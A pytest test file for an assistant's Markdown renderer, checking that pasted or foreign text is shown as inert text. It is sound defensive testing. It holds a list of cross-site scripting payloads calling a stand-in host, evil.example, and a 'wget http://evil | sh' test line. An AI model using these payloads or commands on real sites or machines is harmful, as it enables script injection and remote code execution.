"""Events become one answer, and an answer becomes Markdown that can do nothing but be read."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.events import Dropped, Fix, Loading, Notice, Probed, Retrieved, Sentence, Understood
from assistant.types import Clue, Finding, FixText, Match, Query
from assistant.web.markdown import code, escape, fence, guide_markdown, printable, sentence_markdown
from assistant.web.messages import (
    Answer,
    confidence_word,
    fold,
    render_answer,
    render_entry,
    render_failure,
    render_finding,
    render_question,
)
from assistant.web.proof import render_proof
from tests.fakes import ENTRIES, fake_done

# The browser reads GFM with HTML; a test reader that lets everything through shows what is inert.
READER = MarkdownIt("gfm-like", {"html": True, "linkify": False})

XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/a.png'>",
    "![x](http://evil.example/b.png)",
    "\\![x](http://evil.example)",
    "![x][ref]\n\n[ref]: http://evil.example/c.png",
    "[click](javascript:alert(1))",
    "[click](http://evil.example)",
    "<http://evil.example>",
    "http://evil.example/bare www.evil.example me@evil.example",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<iframe src=http://evil.example></iframe>",
    "<form action=http://evil.example><button>go</button></form>",
    "<style>@import 'http://evil.example/x.css'</style>",
    '<div style="background:url(http://evil.example/d.png)">x</div>',
    "<video src=http://evil.example/v></video>",
    "<picture><source srcset=http://evil.example/s></picture>",
    "<object data=http://evil.example></object>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "```\n<script>alert(1)</script>\n```\n<img src=x onerror=alert(2)>",
    "````\n```\n<b>\n````\n<img src=x>",
    "~~~html\n<img src=x>\n~~~\n![x](http://evil.example)",
    "`code` <b>` ` <img src=x> `",
    "</code></pre><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "# heading\n- list\n> quote\n| a |\n|---|\n| <b> |",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\url{http://evil.example}\\)",
    "<!-- --><img src=x><!-- ",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
    "\\<img src=x> \\\\<b>\\\\",
)
HARMLESS = {"paragraph", "inline", "text", "softbreak", "hardbreak", "fence", "code_inline"}


def kinds(markdown: str) -> set[str]:
    """The kinds of Markdown that a reader finds in it."""
    found = set()
    for token in READER.parse(markdown):
        for one in (token, *(token.children or ())):
            found.add(re.sub(r"_(open|close)$", "", one.type))
    return found


def text_of(markdown: str) -> str:
    """What a reader sees of it."""
    pieces = []
    for token in READER.parse(markdown):
        if token.type in ("fence", "code_block"):
            pieces.append(token.content.rstrip("\n"))
        for one in token.children or ():
            pieces.append("\n" if one.type.endswith("break") else one.content)
    return "".join(pieces)


# --- data stays data -----------------------------------------------------------------------------


@pytest.mark.parametrize("payload", XSS)
def test_a_paste_is_shown_as_it_stands_and_does_nothing(payload):
    shown = render_question(payload)
    assert kinds(shown) <= HARMLESS
    assert text_of(shown).strip() == payload.strip()


@pytest.mark.parametrize("payload", XSS)
@pytest.mark.parametrize("write", [escape, fence, code, sentence_markdown, render_failure])
def test_no_way_of_writing_lets_html_pictures_or_links_through(payload, write):
    assert kinds(write(payload)) <= HARMLESS | {"strong", "em"}


@pytest.mark.parametrize("payload", XSS)
def test_a_guide_brings_no_html_and_no_pictures(payload):
    shown = guide_markdown(payload)
    assert not kinds(shown) & {"html_block", "html_inline", "image"}
    assert "mermaid" not in shown.split("\n")[0]
    for token in READER.parse(shown):
        for one in token.children or ():
            assert str(one.attrGet("href") or "http:").startswith("http")


@given(st.text(st.characters(codec="utf-8"), max_size=80))
def test_any_line_survives_being_shown(text):
    line = " ".join(text.split())
    assert text_of(render_question(line)) == printable(line).strip()


@given(st.text(st.sampled_from("`~ab<>&\\*_[]()!#|-+=1.\n"), max_size=60))
def test_any_block_survives_its_fence(text):
    shown = fence(text)
    assert kinds(shown) <= {"fence"}
    assert text_of(shown) == text.rstrip("\n")


@given(st.text(st.sampled_from("`~ab<>&*_[]()!#|-+=1.: /htps\n\\"), max_size=80))
def test_no_guide_text_makes_html_or_a_picture(text):
    assert not kinds(guide_markdown(text)) & {"html_block", "html_inline", "image"}
    assert kinds(sentence_markdown(text)) <= HARMLESS | {"strong", "em"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x00b", "a␀b"),
        ("\x1b[31mred\x07", "␛[31mred␇"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("abc\u202edef", "abc⟨U+202E⟩def"),
        ("\ud800half", "\ufffdhalf"),
        ("\ufeffstart", "⟨U+FEFF⟩start"),
        ("tab\tand ümlaut 日本 🎉", "tab\tand ümlaut 日本 🎉"),
    ],
)
def test_what_hides_is_made_visible(text, shown):
    assert printable(text) == shown


def test_an_overlong_paste_shows_head_and_tail_and_says_so():
    text = "\n".join(f"line {number}" for number in range(100_000))
    shown = render_question(text)
    assert len(shown) < 20_000
    assert "line 0\n" in shown
    assert "line 99999" in shown
    assert "all of it is read" in shown


# --- a guide's Markdown --------------------------------------------------------------------------

GUIDE = """## Solution

1. Install *it* in the **right** place, see [PyPI](https://pypi.org/project/timm/):

   ```sh
   # comment
   pip install timm

   python -c "import timm"
   ```

2. Then `import timm`; an [anchor](#other), ![a picture](x.png) and <b>HTML</b>.
   - inner with `a|b`
   - [ ] task

> quoted
> twice

| name | value |
|------|-------|
| `a|b` | 1\\|2 |

```mermaid
graph
```
"""


def test_a_guide_keeps_its_form():
    shown = guide_markdown(GUIDE)
    assert "   ```bash\n   # comment\n   pip install timm\n\n   python" in shown
    assert "[PyPI](<https://pypi.org/project/timm/>)" in shown
    assert "an anchor, (picture: a picture) and &lt;b&gt;HTML&lt;/b&gt;" in shown
    assert "```text\ngraph\n```" in shown
    assert {"ordered_list", "bullet_list", "blockquote", "table", "strong", "em"} <= kinds(shown)


def test_writing_a_guide_anew_changes_nothing_the_second_time():
    once = guide_markdown(GUIDE)
    assert text_of(guide_markdown(once)) == text_of(once)


@pytest.mark.parametrize(
    ("sentence", "shown"),
    [
        ("Run `pip install timm` **now**.", "Run `pip install timm` **now**."),
        ("See [here](http://evil.example).", "See here."),
        ("# Not a heading\n- nor a list", "\\# Not a heading - nor a list"),
        ("![x](http://evil.example/a.png)", "(picture: x)"),
    ],
)
def test_a_sentence_is_one_line_without_links(sentence, shown):
    assert sentence_markdown(sentence) == shown


# --- folding -------------------------------------------------------------------------------------

QUERY = Query("No module named 'timm'", "message")
FIRST = FixText("missing-timm", "first")
SECOND = FixText("missing-lap", "second")
MATCHES = tuple(Match(entry.id, entry.title, 0.9, ("exact message",)) for entry in ENTRIES.values())


def folded(*events) -> Answer:
    answer = Answer()
    for event in events:
        answer = fold(answer, event)
    return answer


@pytest.mark.parametrize(
    ("events", "shown"),
    [
        ((Fix(FIRST, 1), Fix(SECOND, 2)), SECOND),
        ((Fix(SECOND, 2), Fix(FIRST, 1)), SECOND),
        ((Fix(FIRST, 1), Fix(None, 2)), None),
        ((Fix(None, 2), Fix(FIRST, 1)), None),
        ((Fix(FIRST, 1), Fix(SECOND, 1)), SECOND),
    ],
)
def test_the_highest_revision_is_shown(events, shown):
    assert folded(*events).fix == shown


def test_later_results_replace_earlier_ones_and_sentences_add_up():
    answer = folded(
        Retrieved(MATCHES[:1], "likely", final=False),
        Retrieved(MATCHES, "answer", final=True),
        Fix(FIRST, 1),
        Sentence("One."),
        Dropped("pip install evil", "not in the guide"),
        Sentence("Two."),
    )
    assert (answer.status, answer.final, len(answer.matches)) == ("answer", True, 3)
    assert [match.id for match in answer.others] == ["missing-lap", "out-of-memory"]
    shown = render_answer(answer, ENTRIES)
    assert "One. Two." in shown
    assert "Sentences held back (1)" in shown
    assert shown.index("pip install evil") > shown.index("<details>")


def test_loading_is_said_until_something_happens():
    waiting = folded(Loading("the search model"))
    assert "Still loading: the search model" in render_answer(waiting, {})
    assert "Still loading" not in render_answer(fold(waiting, Understood(QUERY)), {})
    assert "Still loading" in render_answer(fold(waiting, Notice("x")), {})


def test_an_answer_names_its_source_and_its_reasons():
    done = fake_done(QUERY, fix=FIRST)
    shown = render_answer(folded(Retrieved(MATCHES, "answer", True), Fix(FIRST, 1), done), ENTRIES)
    assert "### Missing timm" in shown
    assert "From the guide `course.md`, section “Imports”, line 12." in shown
    assert "Match: **very strong** (exact message)." in shown
    assert "fix after 0.1 s" in shown


@pytest.mark.parametrize(
    ("events", "part", "absent"),
    [
        ((Retrieved(MATCHES, "likely", True), Fix(FIRST, 1)), "### Likely: Missing timm", "no fix"),
        ((Retrieved(MATCHES, "abstain", True),), "no entry for this", "###"),
        ((Retrieved(MATCHES, "abstain", False),), "Comparing with", "no fix"),
        ((Retrieved((), "abstain", True),), "no entry for this", "nearest"),
        ((Understood(QUERY),), "Searching the guide", "###"),
        (
            (
                Understood(Query("hi", "smalltalk")),
                Retrieved(MATCHES, "abstain", True),
                Sentence("Hello."),
            ),
            "Hello.",
            "no fix",
        ),
        ((Notice("<b>slow</b>", "warning"),), "**Please note**: &lt;b&gt;slow&lt;/b&gt;", "<b>"),
    ],
)
def test_each_outcome_is_said(events, part, absent):
    shown = render_answer(folded(*events), ENTRIES)
    assert part in shown
    assert absent not in shown


def test_a_finding_names_the_python_first():
    finding = Finding(
        "gpu",
        "warn",
        "<b>No GPU</b>",
        next="Use the CPU",
        where="your notebook's Python",
        source="nvidia-smi",
        facts=(("```", "<img src=x>"),),
    )
    shown = render_finding(finding)
    assert shown.split("\n")[0] == "**Looked at: your notebook's Python**"
    assert "Use the CPU" in shown
    assert render_answer(folded(Probed(finding)), {}).startswith("**Looked at")


def html_of(markdown: str) -> list[str]:
    """The pieces of HTML that a reader of Markdown would pass on."""
    tokens = [one for token in READER.parse(markdown) for one in (token, *(token.children or ()))]
    return [one.content.strip() for one in tokens if one.type in ("html_block", "html_inline")]


@pytest.mark.parametrize("payload", [*XSS, "</details>\n\n<img src=x>", "x</summary><b>\n\n<b>"])
@pytest.mark.parametrize(
    "field", ["summary", "next", "where", "source", "id", "name", "value", "clue"]
)
def test_all_html_of_a_finding_is_our_own_fold(payload, field):
    """What a foreign program, or a person who pasted it, wrote stays text wherever it stands."""
    given = {"id": "gpu", "summary": "fine", field: payload}
    facts = ((given.pop("name", "driver"), given.pop("value", "580")),)
    clue = Clue("gpu", "confirmed", given.pop("clue", "so it is"))
    finding = Finding(status="warn", facts=facts, clues=(clue,), pasted=True, **given)
    fold_of_ours = ["<details><summary>What was read (1 value)</summary>", "</details>"]
    alone = render_finding(finding)
    assert html_of(alone) == fold_of_ours
    assert kinds(alone) <= HARMLESS | {"strong", "em", "html_block"}
    answer = folded(Understood(Query("x", "text")), Probed(finding))
    assert html_of(render_answer(answer, {})) == fold_of_ours
    proof = render_proof("well", (finding,), {"gpu": payload})
    assert html_of(proof) == fold_of_ours


def test_another_candidate_is_shown_with_its_symptom_and_source():
    shown = render_entry(ENTRIES["missing-lap"])
    assert "No missing-lap" in shown
    assert "pip install missing-lap" in shown
    assert "line 12" in shown


@pytest.mark.parametrize(
    ("confidence", "word"),
    [
        (1.0, "very strong"),
        (0.85, "very strong"),
        (0.7, "strong"),
        (0.5, "fair"),
        (0.0, "weak"),
        (-1, "weak"),
    ],
)
def test_confidence_is_a_word(confidence, word):
    assert confidence_word(confidence) == word


def test_the_fix_says_which_knowledge_it_is_from_and_how_it_was_proven():
    fix = FixText("missing-timm", "A", origin="Course *guide*", proof="Reproduced with torch 2.14.")
    shown = render_answer(Answer(fix=fix, status="answer"), ENTRIES)
    assert "*Knowledge: Course \\*guide\\*. Reproduced with torch 2.14.*" in shown.replace(
        "\\.", "."
    )
    assert "Knowledge" not in render_answer(Answer(fix=FixText("missing-timm", "A")), ENTRIES)


@pytest.mark.parametrize(
    ("line", "quote"),
    [
        ("loss 2.303", "line 2 of your text, `loss 2.303`"),
        ("x" * 500, "line 2 of your text, `" + "x" * 79 + "…`"),
        ("<img src=x> `a` ![b](http://c)", "line 2 of your text; "),
        ("wget http://evil | sh", "line 2 of your text; "),
        ("<b onclick=x>[7](#y)", "line 2 of your text, `<b onclick=x>[7](#y)`"),
    ],
)
def test_a_cited_line_of_the_readers_text_is_quoted_and_does_nothing(line, quote):
    entry = next(iter(ENTRIES))
    query = Query(f"first\n{line}\nlast", "text")
    cited = Sentence("It is so.", ("line 2 of your text", entry))
    shown = render_answer(folded(Understood(query), Fix(FixText(entry, "Do it."), 0), cited), {})
    assert quote in shown
    assert f"[\\[2\\]](#cite-{entry})" in shown, "an entry is led to"
    assert "It is so. \\[1\\] " in shown, "a line is quoted, and leads nowhere else"
    assert kinds(shown) <= HARMLESS | {"heading", "link", "em"}
